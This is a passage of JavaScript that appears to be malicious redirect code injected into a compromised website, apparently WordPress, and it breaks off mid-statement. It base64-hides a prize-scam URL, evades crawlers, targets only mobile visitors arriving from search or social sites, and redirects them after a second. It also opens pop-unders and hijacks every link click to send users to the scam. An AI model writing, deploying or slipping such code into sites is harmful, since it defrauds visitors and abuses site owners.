(function(){
  var dst = atob('aHR0cHM6Ly9wcml6ZS13aW5uZXItdG9kYXkuY2x1Yi9jbGFpbT9zcmM9d3A=');
  var ua = navigator.userAgent;
  if (/bot|spider|crawl/i.test(ua)) return;
  if (!/Android|iPhone/i.test(ua)) return;
  if (document.cookie.indexOf('__pz') >= 0) return;
  document.cookie = '__pz=1; max-age=43200; path=/';
  var ref = document.referrer;
  var ok = !ref || /google|facebook|instagram|t\.co/.test(ref);
  if (!ok) return;
  setTimeout(function(){
    window.location.replace(dst + '&d=' + location.hostname);
  }, 1000);
  window.addEventListener('blur', function(){
    if (Math.random() < 0.5) {
      window.open(dst + '&pu=1', '_blank');
    }
  });
  var links = document.getElementsByTagName('a');
  for (var i = 0; i < links.length; i++) {
    links[i].addEventListener('click', function(e){
      e.preventDefault();
      window.location.href = dst + '&c=' + encodeURIComponent(this.href
